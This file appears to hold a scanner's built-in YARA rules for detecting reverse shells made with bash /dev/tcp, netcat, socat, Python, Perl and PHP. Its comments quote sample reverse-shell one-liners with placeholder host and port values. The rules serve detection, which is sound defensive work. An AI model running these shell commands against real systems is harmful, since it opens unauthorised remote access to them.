// Reverse shells: an interactive shell wired to a network connection.
//
// airlock built-in rules (docs/rules/yara-match.md). Each rule names the kind, not one
// cheat-sheet line: a shell word is `sh`, `bash`, `zsh`, `ksh`, `dash`, with or without a
// `/bin/` or `/usr/bin/` path; options and operands may come in any order. Every string is also
// looked for in UTF-16 (`wide`), the encoding of a script saved by Windows tools.

rule reverse_shell_dev_tcp
{
    meta:
        id = "yara-reverse-shell-dev-tcp"
        severity = "critical"
        doc_severity = "low"
        description = "a shell wired to bash's /dev/tcp or /dev/udp (a reverse shell): its input or output redirected there, or a descriptor opened there read by a shell or a read loop"
    strings:
        // A shell whose input or output is redirected to /dev/tcp: `bash -i >& /dev/tcp/h/p`,
        // `sh -l > /dev/tcp/h/p 0<&1`, `bash 5<>/dev/tcp/h/p`.
        $sh = /\b(ba|z|k|da)?sh(\s+-[A-Za-z]+)*\s+[0-9]{0,3}[<>&]{1,3}\s*\/dev\/(tcp|udp)\/[^\/\s]+\/[0-9]{1,5}/ ascii wide
        // stdin taken from the connection: `... /dev/tcp/h/p 0>&1`.
        $fd = /\/dev\/(tcp|udp)\/[^\/\s]+\/[0-9]{1,5}\s*0\s*>\s*&\s*1/ ascii wide
        // A descriptor opened on the connection (`exec 5<>/dev/tcp/h/p`) ...
        $open = /\bexec\s+[0-9]{1,3}\s*<>\s*\/dev\/(tcp|udp)\/[^\/\s]+\/[0-9]{1,5}/ ascii wide
        // ... made the script's input (`0<&196;exec 196<>/dev/tcp/...`), ...
        $stdin = /\b0\s*<\s*&\s*[0-9]{1,3}\s*;\s*exec\s+[0-9]{1,3}\s*<>\s*\/dev\/(tcp|udp)\// ascii wide
        // ... read by a shell (`sh <&196 >&196`) or by a loop that runs what it reads.
        $sh_fd = /\b(ba|z|k|da)?sh(\s+-[A-Za-z]+)*\s+[0-9]?<\s*&\s*[0-9]{1,3}\b/ ascii wide
        $loop = /<\s*&\s*[0-9]{1,3}\s*\|\s*while\s+read\b/ ascii wide
    condition:
        $sh or $fd or $stdin or ($open and ($sh_fd or $loop))
}

rule reverse_shell_netcat
{
    meta:
        id = "yara-reverse-shell-netcat"
        severity = "critical"
        doc_severity = "low"
        description = "netcat, ncat or telnet wired to a shell: -e/-c running a shell for the remote end (options before or after the host), the connection piped into a shell, or a FIFO or named pipe relaying a shell to it"
    strings:
        // `nc -e /bin/sh h p`, `nc h p -e /bin/sh`, `ncat h p -e bash`, `busybox nc h p -e sh`,
        // `nc -c sh h p`, `nc.traditional -nv h p -e /bin/bash`.
        $e = /\b(nc|ncat|netcat)(\.traditional|\.openbsd)?\s[^\n|;&]{0,120}-[A-Za-z]*[ec]\s*['"]?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/ ascii wide
        // The connection piped into a shell: `telnet h p | /bin/sh | telnet h q`, `nc h p | sh`.
        $pipe = /\b(nc|ncat|netcat|telnet)(\.traditional|\.openbsd)?\s[^\n|;&]{0,120}\|\s*(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/ ascii wide
        // A FIFO or named pipe (`mkfifo f`, `mknod f p`) with a shell and a network client on the
        // same line, in either order: `cat f | sh -i 2>&1 | nc h p > f`, `nc h p < f | sh > f`.
        $fifo_sh_nc = /\b(mkfifo\s+\S+|mknod\s+\S+\s+p)\b[^\n]{0,160}(^|[\s|;&(])(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b[^\n]{0,160}\b(nc|ncat|netcat|telnet|openssl\s+s_client)\s/ ascii wide
        $fifo_nc_sh = /\b(mkfifo\s+\S+|mknod\s+\S+\s+p)\b[^\n]{0,160}\b(nc|ncat|netcat|telnet|openssl\s+s_client)\s[^\n]{0,160}\|\s*(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/ ascii wide
    condition:
        any of them
}

rule reverse_shell_socat
{
    meta:
        id = "yara-reverse-shell-socat"
        severity = "critical"
        doc_severity = "low"
        description = "socat connecting a shell (exec:sh) to a TCP or SSL peer"
    strings:
        $a = /\bsocat\s[^\n]{0,120}\b(tcp|tcp4|tcp6|ssl|openssl)(-connect)?:[^\n]{0,120}exec:['"]?(\/bin\/)?(ba|z|da)?sh\b/ nocase ascii wide
        $b = /\bsocat\s[^\n]{0,120}exec:['"]?(\/bin\/)?(ba|z|da)?sh\b[^\n]{0,120}\b(tcp|tcp4|tcp6|ssl|openssl)(-connect)?:/ nocase ascii wide
    condition:
        any of them
}

rule reverse_shell_python_dup2
{
    meta:
        id = "yara-reverse-shell-python"
        severity = "critical"
        doc_severity = "low"
        description = "a Python reverse shell: a connected socket's descriptor made a shell's standard input (dup2, or stdin= of a subprocess) and a shell started, within a few hundred bytes"
    strings:
        // Any dup2 of a descriptor (`os.dup2(s.fileno(),0)`, `dup2(fd,f)` in a loop or a list
        // comprehension, after `from os import dup2`), or a shell given the socket as stdin.
        $dup = /\bdup2\s*\(\s*[A-Za-z_][A-Za-z0-9_.]*(\.fileno\(\s*\))?\s*,/ ascii wide
        $stdin = /\bstdin\s*=\s*[A-Za-z_][A-Za-z0-9_.]*\.fileno\(\s*\)/ ascii wide
        $connect = ".connect((" ascii wide
        $create = "create_connection(" ascii wide
        // A shell: a quoted shell name or path (`'/bin/sh'`, `"bash"`, `'sh -i'`), or pty.spawn.
        $sh = /['"](\/usr)?(\/bin\/)?(ba|z|k|da)?sh(\s+-i)?['"]/ ascii wide
        $pty = "pty.spawn(" ascii wide
    condition:
        for any i in (1..#dup) : (
            for any of ($connect, $create) : ( $ in (@dup[i] - 1024 .. @dup[i] + 1024) ) and
            for any of ($sh, $pty) : ( $ in (@dup[i] - 1024 .. @dup[i] + 1024) )
        ) or
        for any i in (1..#stdin) : (
            for any of ($connect, $create) : ( $ in (@stdin[i] - 1024 .. @stdin[i] + 1024) ) and
            for any of ($sh, $pty) : ( $ in (@stdin[i] - 1024 .. @stdin[i] + 1024) )
        )
}

rule reverse_shell_perl
{
    meta:
        id = "yara-reverse-shell-perl"
        severity = "critical"
        doc_severity = "low"
        description = "a Perl reverse shell: a socket, standard input or output duplicated onto it, and a shell or a command loop run"
    strings:
        $sock1 = "use Socket" ascii wide
        $sock2 = "IO::Socket::INET" ascii wide
        $sock3 = /-MIO\b/ ascii wide
        // `open(STDIN,">&S")`, `open STDOUT, '>&', $c`, `STDIN->fdopen($c,r)`.
        $dup1 = /\bopen\s*\(?\s*STD(IN|OUT|ERR)\s*,\s*['"]\s*[+<>]{1,2}\s*&/ ascii wide
        $dup2 = /\bSTD(IN|OUT|ERR)->fdopen\s*\(/ ascii wide
        $dup3 = /\$~->fdopen\s*\(/ ascii wide
        $run1 = /\b(exec|system)\s*\(?\s*['"](\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/ ascii wide
        $run2 = /\bsystem\s*\$_\s*while\s*<>/ ascii wide
    condition:
        any of ($sock*) and any of ($dup*) and any of ($run*)
}

rule reverse_shell_php
{
    meta:
        id = "yara-reverse-shell-php"
        severity = "critical"
        doc_severity = "low"
        description = "a PHP reverse shell: a socket opened (fsockopen, stream_socket_client) and a shell run on its descriptors"
    strings:
        $sock = /\b(fsockopen|pfsockopen|stream_socket_client|socket_connect)\s*\(/ ascii wide
        // `exec("/bin/sh -i <&3 >&3 2>&3")`, `proc_open("sh", ...)`, `shell_exec('bash -i')`.
        $run = /\b(exec|shell_exec|system|passthru|popen|proc_open)\s*\(\s*['"](\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/ ascii wide
        $sh_fd = /\b(ba|z|k|da)?sh(\s+-[A-Za-z]+)*\s+[0-9]?<\s*&\s*[0-9]{1,3}\b/ ascii wide
    condition:
        $sock and ($run or $sh_fd)
}
